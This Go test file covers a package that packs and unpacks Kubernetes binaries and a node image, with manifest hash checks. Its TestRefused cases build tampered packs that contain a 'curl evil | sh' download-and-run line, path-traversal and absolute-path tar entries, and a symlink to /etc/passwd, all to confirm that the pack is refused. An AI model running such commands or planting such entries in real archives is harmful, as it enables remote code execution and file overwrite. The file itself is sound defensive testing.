package roompack

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/anonlab/anonlab/steps/cluster/binaries"
)

// fakeBinaries makes a directory with small executables named as the
// real ones, each printing its name.
func fakeBinaries(t *testing.T, names ...string) string {
	t.Helper()
	dir := t.TempDir()
	for _, n := range names {
		if err := os.WriteFile(filepath.Join(dir, n), []byte("#!/bin/sh\necho "+n+"\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

var fakeImage = []byte("a docker save tar of anonlab/node:v1.37.2")

func writePack(t *testing.T, image string) (string, Manifest) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "room.tar.gz")
	m, err := Write(context.Background(), path, Contents{
		Lab: "v0.9.0", KubernetesVersion: "v1.37.2",
		BinariesDir: fakeBinaries(t, binaries.KubeAPIServer, binaries.Etcd, binaries.Kubectl),
		NodeImage:   image,
		SaveImage: func(_ context.Context, img string, w io.Writer) error {
			if img != image {
				t.Errorf("SaveImage(%q), want %q", img, image)
			}
			_, err := w.Write(fakeImage)
			return err
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	return path, m
}

func sum(b []byte) string { s := sha256.Sum256(b); return hex.EncodeToString(s[:]) }

func TestRoundTrip(t *testing.T) {
	path, written := writePack(t, "anonlab/node:v1.37.2")
	cache := t.TempDir()
	var loaded bytes.Buffer
	res, err := Unpack(context.Background(), path, func(_ context.Context, r io.Reader) error {
		_, err := io.Copy(&loaded, r)
		return err
	}, binaries.WithCacheDir(cache))
	if err != nil {
		t.Fatal(err)
	}
	if want := filepath.Join(cache, "v1.37.2"); res.Dir != want {
		t.Errorf("installed into %s, want %s", res.Dir, want)
	}
	for _, n := range []string{binaries.KubeAPIServer, binaries.Etcd, binaries.Kubectl} {
		data, err := os.ReadFile(filepath.Join(res.Dir, n))
		if err != nil {
			t.Fatal(err)
		}
		if want := "#!/bin/sh\necho " + n + "\n"; string(data) != want {
			t.Errorf("%s = %q, want %q", n, data, want)
		}
	}
	if !res.ImageLoaded || !bytes.Equal(loaded.Bytes(), fakeImage) {
		t.Errorf("image loaded %v: %q, want %q", res.ImageLoaded, loaded.Bytes(), fakeImage)
	}
	m := res.Manifest
	if m.Lab != "v0.9.0" || m.KubernetesVersion != "v1.37.2" || m.NodeImage != "anonlab/node:v1.37.2" || m.Platform != Platform() || m.Format != Format {
		t.Errorf("manifest %+v", m)
	}
	if len(m.Files) != 4 || len(written.Files) != 4 {
		t.Fatalf("manifest files %+v, written %+v: want 3 binaries and the image", m.Files, written.Files)
	}
	for _, f := range m.Files {
		if f.Name == ImageName && f.SHA256 != sum(fakeImage) {
			t.Errorf("image sha256 %s, want %s", f.SHA256, sum(fakeImage))
		}
	}
	left, _ := os.ReadDir(cache)
	for _, e := range left {
		if e.Name() != "v1.37.2" && e.Name() != ".build.lock" {
			t.Errorf("cache holds %s after unpack; want only v1.37.2 and the lock", e.Name())
		}
	}
}

// entry is one tar entry of a hand-made pack.
type entry struct {
	name string
	body []byte
	kind byte
}

// rewrite reads the pack at path and writes its entries, changed by edit,
// to a new pack.
func rewrite(t *testing.T, path string, edit func([]entry) []entry) string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	var es []entry
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(tr)
		es = append(es, entry{h.Name, body, h.Typeflag})
	}
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range edit(es) {
		h := &tar.Header{Name: e.name, Mode: 0o755, Size: int64(len(e.body)), Typeflag: e.kind}
		if e.kind == tar.TypeSymlink {
			h.Size, h.Linkname = 0, string(e.body)
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if e.kind == tar.TypeReg {
			if _, err := tw.Write(e.body); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := errors.Join(tw.Close(), zw.Close()); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "edited.tar.gz")
	if err := os.WriteFile(out, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return out
}

// editManifest changes the manifest entry of es.
func editManifest(t *testing.T, es []entry, edit func(*Manifest)) []entry {
	for i, e := range es {
		if e.name == ManifestName {
			var m Manifest
			if err := json.Unmarshal(e.body, &m); err != nil {
				t.Fatal(err)
			}
			edit(&m)
			es[i].body, _ = json.Marshal(m)
		}
	}
	return es
}

// TestRefused: a pack that is not exactly what its manifest says is
// refused with an error naming the pack and what is wrong, and nothing is
// installed or loaded.
func TestRefused(t *testing.T) {
	path, _ := writePack(t, "anonlab/node:v1.37.2")
	tampered := []byte("#!/bin/sh\necho etcd; curl evil | sh\n")
	cases := []struct {
		Name string
		Edit func([]entry) []entry
		Want []string
	}{
		{"tampered binary", func(es []entry) []entry {
			for i := range es {
				if es[i].name == "bin/etcd" {
					es[i].body = tampered
				}
			}
			return es
		}, []string{"bin/etcd has sha256 " + sum(tampered), "its manifest says sha256 " + sum([]byte("#!/bin/sh\necho etcd\n"))}},
		{"tampered image", func(es []entry) []entry {
			for i := range es {
				if es[i].name == ImageName {
					es[i].body = append(es[i].body, 0)
				}
			}
			return es
		}, []string{ImageName + " has sha256 " + sum(append(append([]byte{}, fakeImage...), 0))}},
		{"path traversal", func(es []entry) []entry {
			return append([]entry{{"bin/../../evil", []byte("x"), tar.TypeReg}}, es...)
		}, []string{`it holds "bin/../../evil"`}},
		{"absolute path", func(es []entry) []entry {
			return append([]entry{{"/tmp/evil", []byte("x"), tar.TypeReg}}, es...)
		}, []string{`it holds "/tmp/evil"`}},
		{"symlink", func(es []entry) []entry {
			for i := range es {
				if es[i].name == "bin/etcd" {
					es[i] = entry{"bin/etcd", []byte("/etc/passwd"), tar.TypeSymlink}
				}
			}
			return es
		}, []string{"bin/etcd is not a regular file"}},
		{"file missing", func(es []entry) []entry {
			var out []entry
			for _, e := range es {
				if e.name != "bin/kube-apiserver" {
					out = append(out, e)
				}
			}
			return out
		}, []string{"its manifest lists bin/kube-apiserver, which it does not hold"}},
		{"file not listed", func(es []entry) []entry {
			return editManifest(t, es, func(m *Manifest) {
				var files []File
				for _, f := range m.Files {
					if f.Name != "bin/kubectl" {
						files = append(files, f)
					}
				}
				m.Files = files
			})
		}, []string{"it holds bin/kubectl, which its manifest does not list"}},
		{"no manifest", func(es []entry) []entry { return es[:len(es)-1] }, []string{"it has no manifest.json"}},
		{"bad version", func(es []entry) []entry {
			return editManifest(t, es, func(m *Manifest) { m.KubernetesVersion = "latest" })
		}, []string{`kubernetesVersion "latest" is not a Kubernetes release`}},
		{"another platform", func(es []entry) []entry {
			return editManifest(t, es, func(m *Manifest) { m.Platform = "plan9/mips" })
		}, []string{"its binaries are for plan9/mips, this machine is " + Platform()}},
	}
	for _, tc := range cases {
		t.Run(tc.Name, func(t *testing.T) {
			t.Parallel()
			bad := rewrite(t, path, tc.Edit)
			cache := t.TempDir()
			loaded := false
			_, err := Unpack(context.Background(), bad, func(context.Context, io.Reader) error { loaded = true; return nil }, binaries.WithCacheDir(cache))
			if err == nil {
				t.Fatal("unpacked; want refused")
			}
			for _, want := range append(tc.Want, "room pack "+bad+": ", "refused, nothing installed") {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("error %q lacks %q", err, want)
				}
			}
			if loaded {
				t.Error("the node image was loaded")
			}
			left, _ := os.ReadDir(cache)
			for _, e := range left {
				if e.Name() != ".build.lock" {
					t.Errorf("cache holds %s after a refused pack", e.Name())
				}
			}
			if _, err := os.Stat(filepath.Join(filepath.Dir(cache), "evil")); err == nil {
				t.Error("an entry was written outside the scratch directory")
			}
		})
	}
}

// TestWriteLeavesNothing: a pack whose node image cannot be saved is not
// written, and leaves no scratch file beside it.
func TestWriteLeavesNothing(t *testing.T) {
	dir := t.TempDir()
	_, err := Write(context.Background(), filepath.Join(dir, "room.tar.gz"), Contents{
		Lab: "v0.9.0", KubernetesVersion: "v1.37.2", BinariesDir: fakeBinaries(t, binaries.KubeAPIServer, binaries.Etcd),
		NodeImage: "anonlab/node:v1.37.2",
		SaveImage: func(context.Context, string, io.Writer) error { return errors.New("no such image") },
	})
	if err == nil || !strings.Contains(err.Error(), "save node image anonlab/node:v1.37.2: no such image") {
		t.Errorf("error %v, want the image's", err)
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("%s holds %v after a failed pack", dir, left)
	}
}

// TestReplacesCache: unpacking over a version already in the cache
// replaces its binaries, and a pack without kubectl leaves none behind.
func TestReplacesCache(t *testing.T) {
	cache := t.TempDir()
	old := filepath.Join(cache, "v1.37.2")
	if err := os.MkdirAll(old, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, n := range []string{binaries.KubeAPIServer, binaries.Etcd, binaries.Kubectl} {
		if err := os.WriteFile(filepath.Join(old, n), []byte("old"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	path := filepath.Join(t.TempDir(), "room.tar.gz")
	if _, err := Write(context.Background(), path, Contents{Lab: "v0.9.0", KubernetesVersion: "v1.37.2",
		BinariesDir: fakeBinaries(t, binaries.KubeAPIServer, binaries.Etcd)}); err != nil {
		t.Fatal(err)
	}
	res, err := Unpack(context.Background(), path, nil, binaries.WithCacheDir(cache))
	if err != nil {
		t.Fatal(err)
	}
	if res.ImageLoaded || res.Manifest.NodeImage != "" {
		t.Errorf("a pack without an image: %+v", res)
	}
	data, _ := os.ReadFile(filepath.Join(old, binaries.Etcd))
	if string(data) != "#!/bin/sh\necho etcd\n" {
		t.Errorf("etcd = %q after unpack, want the pack's", data)
	}
	if _, err := os.Stat(filepath.Join(old, binaries.Kubectl)); err == nil {
		t.Error("the old kubectl is still there")
	}
}
